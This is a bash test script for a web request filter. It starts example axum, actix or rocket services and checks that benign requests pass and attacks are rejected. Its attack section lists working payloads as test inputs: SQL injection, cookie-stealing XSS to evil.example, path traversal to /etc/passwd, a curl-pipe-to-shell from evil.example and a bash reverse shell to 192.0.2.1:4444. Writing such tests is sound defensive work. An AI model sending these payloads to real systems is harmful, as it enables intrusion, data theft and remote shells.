#!/usr/bin/env bash
# Starts an example service, sends it requests of ordinary clients and attacks, and prints the result of each. Exits 0 only
# if every benign request was served and every attack rejected.
#
#   examples/try.sh FRAMEWORK           build, start, try, stop: axum, actix or rocket
#   examples/try.sh http://HOST:PORT    try a service that is already running on this machine
set -euo pipefail
cd "$(dirname "$0")/.."

command -v curl >/dev/null || { echo "try.sh needs curl"; exit 2; }
work=$(mktemp -d)
server=
trap '[ -n "$server" ] && kill "$server" 2>/dev/null; rm -rf "$work"' EXIT

what=${1:?usage: examples/try.sh axum|actix|rocket|http://HOST:PORT}
if [[ $what == http://* ]]; then
    base=$what
else
    cargo build --quiet --locked --package "portcullis-example-$what"
    target=${CARGO_TARGET_DIR:-target}
    # Port 0: the system picks a free one, and the service prints it.
    "$target/debug/portcullis-example-$what" --listen 127.0.0.1:0 >"$work/out" 2>"$work/log" &
    server=$!
    for _ in $(seq 100); do
        base=$(sed -n 's/^listening on //p' "$work/out")
        [ -n "$base" ] && break
        kill -0 "$server" 2>/dev/null || { cat "$work/log"; exit 1; }
        sleep 0.1
    done
    [ -n "$base" ] || { echo "the service did not start"; exit 1; }
fi

agent='Mozilla/5.0 (X11; Linux x86_64; rv:141.0) Gecko/20100101 Firefox/141.0'
wrong=0

# try EXPECTED NAME CURL-ARGUMENTS...: EXPECTED is a pattern for the status.
try() {
    local expected=$1 name=$2 status verdict=ok
    shift 2
    status=$(curl --silent --output "$work/body" --write-out '%{http_code}' --path-as-is --max-time 10 \
        --header 'Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8' \
        --header 'Accept-Language: en-GB,en;q=0.7,de;q=0.3' --user-agent "$agent" "$@") || true
    [[ $status =~ ^($expected)$ ]] || { verdict=WRONG; wrong=$((wrong + 1)); }
    printf '  %-52s %-9s %s\n' "$name" "$status" "$verdict"
}

served='200|201|404'
rejected='400|403'
json='Content-Type: application/json'
head -c 262144 /dev/urandom >"$work/photo.jpg"
printf '%s' '{"author":"Zoë","text":"' >"$work/long.json"
head -c 400000 /dev/zero | tr '\0' 'a' | sed 's/a\{60\}/tulips and roses, watered twice a week; nothing else to do. /g' >>"$work/long.json"
printf '%s' '"}' >>"$work/long.json"

echo "benign requests: all must be served"
try "$served" 'home page' "$base/"
try "$served" 'search' "$base/search?q=garden+chairs"
try "$served" 'search for a name with an apostrophe' "$base/search?q=O%27Brien+%26+sons"
try "$served" 'search with SQL words in prose' "$base/search?q=please+select+one+from+the+union+catalogue"
try "$served" 'search for a program' "$base/search?q=cat+food+for+2+cats+or+more"
try "$served" 'search in another script' "$base/search?q=%E5%BA%AD%E5%9C%92+%D1%81%D0%B0%D0%B4"
try "$served" 'search for mathematics' "$base/search?q=1+%2B+1+%3D+2"
try "$served" 'search for a quoted phrase' "$base/search?q=%22rubber+boots%22+-%22kids%22"
try "$served" 'tracking parameters and cookies' "$base/?utm_source=mail&gclid=Cj0KCQjw-fmZBhDtARIsAH6H8qi--x" \
    --cookie 'session=6eUeMURc1PFFbCCtSaULCMi6EUl4FHV4; theme=dark; _ga=GA1.2.61114.138515' \
    --referer 'https://www.example.com/shop?page=2&sort=price'
try "$served" 'a file' "$base/files?name=price-list.2026.pdf"
try "$served" 'a page that does not exist' "$base/language/helpdesk"
try "$served" 'log in' "$base/login" --data-urlencode 'user=ann@example.org' --data-urlencode "password=it's & my; pa\$\$word"
try "$served" 'comment' "$base/comments" --header "$json" --data '{"author":"Ann","text":"I <3 this shop; it is the best & cheapest (really!)"}'
try "$served" 'comment with escapes' "$base/comments" --header "$json" --data '{"author":"Zo\u00eb","text":"50% off?\nWell -- maybe \"later\""}'
try "$served" 'a long comment, 400 kB' "$base/comments" --header "$json" --data-binary "@$work/long.json"
try "$served" 'upload of 256 kB' "$base/upload" --header 'Content-Type: image/jpeg' --data-binary "@$work/photo.jpg"
try 101 'WebSocket handshake' "$base/echo" --http1.1 --header 'Connection: Upgrade' --header 'Upgrade: websocket' \
    --header 'Sec-WebSocket-Version: 13' --header 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' --max-time 1

echo "attacks: all must be rejected"
try "$rejected" 'SQL: always true' "$base/search?q=1'+or+'1'='1"
try "$rejected" 'SQL: union' "$base/search?q=1%20UNION%20SELECT%20user,password%20FROM%20users--"
try "$rejected" 'SQL: comments for blanks' "$base/search?q=1'/**/union/**/all/**/select/**/null,version()%23"
try "$rejected" 'SQL: encoded twice' "$base/search?q=1%2527%2520or%25201%253D1--%2520"
try "$rejected" 'SQL: waits' "$base/search?q=1);+waitfor+delay+'0:0:5'--"
try "$rejected" 'SQL in a cookie' "$base/" --cookie "session=x' and 1=1 union select 1,2,3-- "
try "$rejected" 'SQL in JSON' "$base/comments" --header "$json" --data '{"author":"x","text":"1\u0027; drop table comments; --"}'
try "$rejected" 'SQL in the login form' "$base/login" --data-urlencode "user=admin'--" --data-urlencode "password=' or 1=1#"
try "$rejected" 'SQL in the user agent' "$base/" --user-agent "' or sleep(5)='"
try "$rejected" 'script element' "$base/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"
try "$rejected" 'script in an event handler' "$base/search?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E"
try "$rejected" 'script in an SVG' "$base/search?q=%3Csvg/onload%3Dfetch('//evil.example/'%2Bdocument.cookie)%3E"
try "$rejected" 'script in a URL' "$base/search?q=javascript:alert(document.domain)"
try "$rejected" 'script in JSON, escaped' "$base/comments" --header "$json" --data '{"author":"x","text":"\u003cscript\u003ealert(1)\u003c/script\u003e"}'
try "$rejected" 'script after 300 kB of padding' "$base/comments" --header "$json" \
    --data-binary "@"<(head -c 300000 "$work/long.json"; printf '%s' '<script>alert(1)</script>"}')
try "$rejected" 'path traversal' "$base/files?name=../../../../etc/passwd"
try "$rejected" 'path traversal, encoded' "$base/files?name=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"
try "$rejected" 'path traversal, overlong UTF-8' "$base/files?name=..%c0%af..%c0%af..%c0%afetc/passwd"
try "$rejected" 'path traversal, Windows' "$base/files?name=..%5c..%5c..%5cwindows%5cwin.ini"
try "$rejected" 'path traversal in the path' "$base/static/..%2f..%2f..%2fetc/passwd"
try "$rejected" 'shell: command after a separator' "$base/files?name=x;cat+/etc/passwd"
try "$rejected" 'shell: substitution' "$base/files?name=\$(curl+http://evil.example/x.sh|sh)"
try "$rejected" 'shell: reverse shell' "$base/search?q=%3B+bash+-i+%3E%26+/dev/tcp/192.0.2.1/4444+0%3E%261"
try "$rejected" 'shell: blanks hidden' "$base/files?name=a;cat\${IFS}/etc/passwd"
try "$rejected" 'shell in a header' "$base/" --header 'X-Api-Version: () { :;}; /bin/bash -c "id"'
try 403 'the admin page from outside' "$base/admin"
try 403 'the admin page with a forged address' "$base/admin" --header 'X-Forwarded-For: 10.20.0.1'
try 413 'a body over the limit' "$base/comments" --header "$json" \
    --data-binary "@"<(cat "$work/long.json" "$work/long.json" "$work/long.json" "$work/long.json")
try 413 'a compressed body that swells beyond the ratio' "$base/comments" --header "$json" \
    --header 'Content-Encoding: gzip' --data-binary "@"<(gzip -c "$work/long.json" | head -c 1000)
try 415 'a body in a coding that cannot be inspected' "$base/comments" --header "$json" \
    --header 'Content-Encoding: zstd' --data '{"text":"hello"}'
for guess in $(seq 8); do
    curl --silent --output /dev/null "$base/login" --data "user=ann&password=guess$guess" || true
done
try 429 'the eleventh password guess within a minute' "$base/login" --data 'user=ann&password=guess11'

echo
if [ "$wrong" -gt 0 ]; then
    echo "$wrong requests were answered wrongly"
    exit 1
fi
echo "every benign request was served and every attack rejected"
